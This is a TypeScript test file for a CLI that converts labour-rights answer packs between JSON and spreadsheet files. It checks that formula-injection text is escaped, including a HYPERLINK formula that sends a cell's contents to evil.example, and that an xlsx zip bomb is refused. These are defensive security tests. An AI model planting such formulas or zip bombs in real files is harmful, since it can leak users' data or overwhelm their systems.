import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { isFormulaLike } from '../../domain/formula';
import { runCliInMemory } from '../run-in-memory';
import { TEMPLATE_PACK } from '../../../scripts/template-pack';
import { makeAnswer, makePack } from '../../../tests/packs/make-pack';
import { makeZip } from '../../../tests/packs/make-zip';
import { writeSheet } from './pack-sheet';

const run = (args: string[], cwd: string) => runCliInMemory(args, { cwd });

const tricky = makePack({
  description: '',
  answers: [
    makeAnswer('a-one', {
      links: [
        { url: 'https://example.org/a', label: 'Label with spaces' },
        {
          url: 'https://example.org/b?x=1',
          label: 'Second | pipe',
          // Only the second link has a pl label: its cell starts with an empty line.
          labels: { pl: 'Druga | etykieta', de: '=Zweite' },
        },
      ],
      review: {
        status: 'approved',
        reviewer: 'RA X',
        reviewedAt: '2026-01-02',
        validUntil: '2026-12-31',
        legalBasis: ['§ 1 MiLoG | § 2 MiLoG'],
        note: 'two\nlines',
      },
    }),
  ],
});

// Security review finding 13: pack text that a spreadsheet would run as a formula.
const formulas = makePack({
  description: '=HYPERLINK("https://evil.example?"&A1,"x")',
  answers: [
    makeAnswer('a-formula', {
      review: {
        status: 'approved',
        reviewer: '@SUM(1+1)',
        reviewedAt: '2026-01-02',
        validUntil: '2026-12-31',
        legalBasis: ['\u200b=1+1', '\uff1d1+1', "'=already quoted"],
      },
    }),
  ],
});

describe('pack to-sheet escapes formulas (finding 13)', () => {
  it('writes no cell a spreadsheet would run, and pack build restores the text', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
    await writeFile(join(dir, 'f.json'), JSON.stringify(formulas));
    expect((await run(['pack', 'to-sheet', 'f.json', '-o', 'f.csv'], dir)).code).toBe(0);
    const csv = await readFile(join(dir, 'f.csv'), 'utf8');
    const cells = Papa.parse<string[]>(csv).data.flat();
    expect(cells.filter((cell) => isFormulaLike(cell))).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`);
    expect(csv).toContain("'@SUM(1+1)");
    const built = await run(
      ['pack', 'build', 'f.csv', '-o', 'back.json', '--today', '2026-03-01'],
      dir,
    );
    expect(built.code).toBe(0);
    expect(JSON.parse(await readFile(join(dir, 'back.json'), 'utf8'))).toEqual(formulas);
  });
});

describe('pack to-sheet with a referral directory too long for one cell', () => {
  it('exits 1 with a message saying where to edit it, and writes no sheet', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
    const referrals = Array.from({ length: 150 }, (_, i) => ({
      id: `service-${i}`,
      name: `Beratungsstelle für mobile Beschäftigte Nummer ${i}`,
      kind: 'labour-rights',
      url: `https://beratung.example/stelle-${i}`,
      channels: [{ type: 'phone', value: `+49 30 ${1_000_000 + i}` }],
      states: ['DE-NW'],
      languages: ['de', 'pl', 'ro', 'bg'],
      lastChecked: '2026-02-20',
    }));
    await writeFile(join(dir, 'big.json'), JSON.stringify(makePack({ referrals } as never)));
    const result = await run(['pack', 'to-sheet', 'big.json', '-o', 'big.csv'], dir);
    expect(result.code).toBe(1);
    expect(result.err).toContain(
      'the referral directory (150 targets) is too long for one spreadsheet cell; edit it in the JSON file',
    );
    expect(result.err).not.toMatch(/\n\s+at /);
    await expect(readFile(join(dir, 'big.csv'), 'utf8')).rejects.toThrow();
  });
});

describe('pack build / pack to-sheet', () => {
  it.each(['xlsx', 'csv'])('round-trips packs through .%s to an equal pack', async (ext) => {
    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
    for (const [name, pack] of [
      ['template', TEMPLATE_PACK],
      ['tricky', tricky],
      ['formulas', formulas],
    ] as const) {
      await writeFile(join(dir, `${name}.json`), JSON.stringify(pack));
      expect(
        (await run(['pack', 'to-sheet', `${name}.json`, '-o', `${name}.${ext}`], dir)).code,
      ).toBe(0);
      const built = await run(
        ['pack', 'build', `${name}.${ext}`, '-o', `${name}-back.json`, '--today', '2026-03-01'],
        dir,
      );
      const errors = built.err.split('\n').filter((l) => l !== '' && !l.startsWith('warning: '));
      expect(errors).toEqual([]);
      expect(built.code).toBe(0);
      expect(JSON.parse(await readFile(join(dir, `${name}-back.json`), 'utf8'))).toEqual(pack);
    }
  });

  it('builds the committed templates into valid packs', async () => {
    for (const file of ['template.xlsx', 'template.csv']) {
      const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
      const result = await run(
        [
          'pack',
          'build',
          join(import.meta.dirname, '../../../packs', file),
          '-o',
          join(dir, 'out.json'),
        ],
        dir,
      );
      expect(result.code).toBe(0);
      expect(JSON.parse(await readFile(join(dir, 'out.json'), 'utf8'))).toEqual(TEMPLATE_PACK);
    }
  });

  it('names sheet, row and column for problems in a spreadsheet', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
    const broken = makePack();
    await writeSheet(broken, join(dir, 'ok.xlsx'));
    const csv = join(dir, 'bad.csv');
    await writeSheet(broken, csv);
    const text = (await readFile(csv, 'utf8'))
      .replace('minimum-wage-minijob,minijob', 'minimum-wage-minijob,wages')
      .replace('https://www.faire-mobilitaet.de/', 'http://www.faire-mobilitaet.de/');
    await writeFile(csv, text);
    const result = await run(['pack', 'build', 'bad.csv', '-o', 'out.json'], dir);
    expect(result.code).toBe(1);
    expect(result.err).toContain(
      'sheet bad.csv, row 18, column B (topic) [answers[1].topic]: unknown topic "wages"',
    );
    expect(result.err).toContain(
      'sheet bad.csv, row 16, column F (links) [answers[0].links[0].url]: "http://www.faire-mobilitaet.de/" is not an https link',
    );
    expect(result.err).toContain(
      'sheet bad.csv, row 17, column F (links): differs from row 16, the first row of answer "minimum-wage-basics"',
    );
  });

  it('refuses a sheet type it does not know with a usage error', async () => {
    const result = await run(['pack', 'to-sheet', 'x.json', '-o', 'x.ods'], tmpdir());
    expect(result.code).toBe(2);
    expect(result.err).toContain('x.ods: use a .xlsx or .csv file');
  });
});

describe('pack validate', () => {
  it('exits 0 for a valid pack and 1 with one line per problem, location first', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'oa-validate-'));
    await writeFile(join(dir, 'good.json'), JSON.stringify(makePack()));
    const bad = makePack();
    bad.answers[1] = makeAnswer('minimum-wage-basics');
    await writeFile(join(dir, 'bad.json'), JSON.stringify(bad));
    const good = await run(['pack', 'validate', 'good.json', '--no-warnings'], dir);
    expect(good).toMatchObject({ code: 0, err: '' });
    const failed = await run(['pack', 'validate', 'bad.json', '--no-warnings'], dir);
    expect(failed.code).toBe(1);
    expect(failed.err).toBe(
      'answers[1].id: duplicate id "minimum-wage-basics", already used by answers[0]\n',
    );
  });
});

describe('pack build refuses an xlsx zip bomb before reading it (finding 14)', () => {
  it('names the unpacked size', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
    // The directory claims 2 GB unpacked; nothing that large is ever inflated.
    const bomb = makeZip([
      { name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(1000), claim: 2_000_000_000 },
    ]);
    await writeFile(join(dir, 'bomb.xlsx'), bomb);
    const result = await run(['pack', 'build', 'bomb.xlsx', '-o', 'out.json'], dir);
    expect(result.code).toBe(1);
    expect(result.err).toMatch(/bomb\.xlsx: not read as a workbook: it would unpack to 1907 MB/);
  });
});

describe('invalid UTF-8 is refused, not replaced (finding 17)', () => {
  it('pack validate names the first bad byte', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'oa-utf8-'));
    const text = Buffer.from(JSON.stringify(makePack()));
    await writeFile(
      join(dir, 'bad.json'),
      Buffer.concat([text.subarray(0, 200), Buffer.from([0xff, 0xfe]), text.subarray(200)]),
    );
    const result = await run(['pack', 'validate', 'bad.json'], dir);
    expect(result.code).toBe(1);
    expect(result.err).toMatch(/bad\.json is not valid UTF-8 text \(at byte 200\)/);
  });
});
